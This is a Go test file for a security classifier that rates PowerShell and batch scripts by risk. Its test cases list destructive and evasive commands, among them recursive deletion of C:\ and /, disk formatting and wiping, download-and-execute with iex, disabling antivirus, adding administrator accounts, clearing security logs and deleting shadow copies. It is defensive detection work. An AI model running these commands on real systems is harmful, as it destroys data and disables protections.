package security

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t77yq/nitrite-automation/internal/model"
)

func hasWarning(warnings []string, substr string) bool {
	for _, w := range warnings {
		if strings.Contains(w, substr) {
			return true
		}
	}
	return false
}

func TestClassifier_FlaggedLowRisk(t *testing.T) {
	c := Default()

	for _, src := range []string{
		"Write-Host 'hi'",
		"Get-Service | Format-Table -AutoSize",
		"$d = Get-Date -Format 'yyyy-MM-dd'",
		"@echo off\r\nipconfig /flushdns\r\n",
		"print('hello')\n",
		"",
	} {
		a := c.Classify(src)
		assert.Equal(t, model.RiskLow, a.Level, src)
		assert.True(t, a.Safe, src)
		assert.Empty(t, a.Warnings, src)
	}
}

func TestClassifier_DangerousPatterns(t *testing.T) {
	c := Default()

	cases := []struct {
		source      string
		description string
	}{
		{`Remove-Item -Recurse -Force C:\`, "Recursive deletion with -Force"},
		{`Remove-Item C:\data -Force -Recurse`, "Recursive deletion with -Force"},
		{"rm -rf /", "Recursive deletion (rm -rf)"},
		{`rd /s /q C:\temp`, "Recursive directory deletion"},
		{"Format-Volume -DriveLetter D", "Disk formatting"},
		{"iwr http://x/a.ps1 | iex", "Download and execute"},
		{"Set-MpPreference -DisableRealtimeMonitoring $true", "Disabling real-time antivirus protection"},
		{`Add-MpPreference -ExclusionPath "C:\tools"`, "Adding an antivirus exclusion"},
		{"Invoke-Expression ($payload)", "Dynamic code execution"},
		{"iex $cmd", "Dynamic code execution"},
		{"Start-Process powershell -ArgumentList x -WindowStyle Hidden", "Hidden PowerShell process"},
		{`reg delete HKCU\Software\Foo /f`, "Registry key deletion"},
		{"Set-ExecutionPolicy Bypass -Scope Process", "Execution policy bypass"},
		{"Disable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol", "Disabling a Windows feature"},
		{"net user bob P@ss /add", "Adding a user account"},
		{"net localgroup administrators bob /add", "Adding a member to the administrators group"},
		{"bcdedit /set {current} safeboot minimal", "Boot configuration edit"},
		{"wevtutil cl Security", "Clearing security event logs"},
	}

	for _, tc := range cases {
		t.Run(tc.description, func(t *testing.T) {
			a := c.Classify(tc.source)
			assert.True(t, a.Level.AtLeast(model.RiskHigh), "level %s for %q", a.Level, tc.source)
			assert.False(t, a.Safe)
			require.NotEmpty(t, a.Warnings)
			assert.True(t, hasWarning(a.Warnings, tc.description), "warnings %v", a.Warnings)
		})
	}
}

func TestClassifier_CaseInsensitiveMultiline(t *testing.T) {
	c := Default()

	a := c.Classify("Write-Host 'start'\nREMOVE-ITEM -recurse -FORCE .\\build\nWrite-Host 'done'")
	assert.Equal(t, model.RiskHigh, a.Level)
	assert.Len(t, a.Warnings, 1)
}

func TestClassifier_EveryMatchReported(t *testing.T) {
	c := Default()

	a := c.Classify("bcdedit /enum\nbcdedit /set x y\n")
	assert.Len(t, a.Warnings, 2)
}

func TestClassifier_ForbiddenCommands(t *testing.T) {
	c := Default()

	for _, src := range []string{
		"format C:",
		"format.com d: /q",
		"diskpart /s wipe.txt",
		"fdisk /mbr",
		"cipher /w:C:\\",
		`takeown /f C:\Windows\System32 /r`,
		`icacls C:\ /reset /t`,
		"Clear-Disk -Number 1 -RemoveData",
	} {
		t.Run(src, func(t *testing.T) {
			a := c.Classify(src)
			assert.Equal(t, model.RiskCritical, a.Level)
			assert.False(t, a.Safe)
			assert.True(t, hasWarning(a.Warnings, "Forbidden command"), "warnings %v", a.Warnings)
		})
	}
}

func TestClassifier_ForbiddenOverridesEverything(t *testing.T) {
	c := Default()

	a := c.Classify("Write-Host 'hello'\nStop-Service Spooler\nRemove-Item -Recurse -Force x\nformat C:")
	assert.Equal(t, model.RiskCritical, a.Level)
	assert.False(t, a.Safe)
	assert.True(t, hasWarning(a.Warnings, "[MEDIUM]"))
	assert.True(t, hasWarning(a.Warnings, "[HIGH]"))
	assert.True(t, hasWarning(a.Warnings, "[CRITICAL]"))
}

func TestClassifier_AdvisoryPatternsStayStorable(t *testing.T) {
	c := Default()

	a := c.Classify("Stop-Service -Name SysMain -Force\nnetsh advfirewall reset")
	assert.Equal(t, model.RiskMedium, a.Level)
	assert.True(t, a.Safe)
	assert.Len(t, a.Warnings, 2)
}

func TestClassifier_SizeAndEncoding(t *testing.T) {
	c, err := NewClassifier(Config{MaxSize: 16})
	require.NoError(t, err)

	a := c.Classify(strings.Repeat("a", 17))
	assert.Equal(t, model.RiskCritical, a.Level)
	assert.False(t, a.Safe)
	assert.True(t, hasWarning(a.Warnings, "too large"))

	a = c.Classify(strings.Repeat("a", 16))
	assert.Equal(t, model.RiskLow, a.Level)

	a = c.Classify("Write-Host \xff\xfe")
	assert.Equal(t, model.RiskCritical, a.Level)
	assert.True(t, hasWarning(a.Warnings, "encoding"))
}

func TestClassifier_ExtraPatterns(t *testing.T) {
	c, err := NewClassifier(Config{ExtraPatterns: []PatternSpec{
		{Pattern: `\bvssadmin\s+delete\b`, Description: "Shadow copy deletion"},
	}})
	require.NoError(t, err)

	a := c.Classify("vssadmin delete shadows /all")
	assert.Equal(t, model.RiskHigh, a.Level)
	assert.True(t, hasWarning(a.Warnings, "Shadow copy deletion"))

	_, err = NewClassifier(Config{ExtraPatterns: []PatternSpec{{Pattern: "("}}})
	assert.Error(t, err)
}

func TestClassifier_Analyze(t *testing.T) {
	c := Default()

	an := c.Analyze("Write-Host 'a'\nWrite-Host 'b'", model.LanguagePowerShell)
	assert.Equal(t, 2, an.Stats.Lines)
	assert.Equal(t, RecommendationOK, an.Recommendation)
	assert.Equal(t, model.LanguagePowerShell, an.Stats.Language)

	an = c.Analyze("bcdedit /enum", model.LanguageBatch)
	assert.Equal(t, RecommendationReview, an.Recommendation)
	assert.Equal(t, model.RiskHigh, an.Level)
}

func TestAssessment_Permitted(t *testing.T) {
	c := Default()

	low := c.Classify("Write-Host 'hi'")
	assert.True(t, low.Permitted(false))

	medium := c.Classify("Stop-Service Spooler")
	assert.True(t, medium.Permitted(false))

	high := c.Classify("bcdedit /enum")
	assert.False(t, high.Permitted(false))
	assert.True(t, high.Permitted(true))

	critical := c.Classify("format C:")
	assert.False(t, critical.Permitted(false))
	assert.False(t, critical.Permitted(true))
}
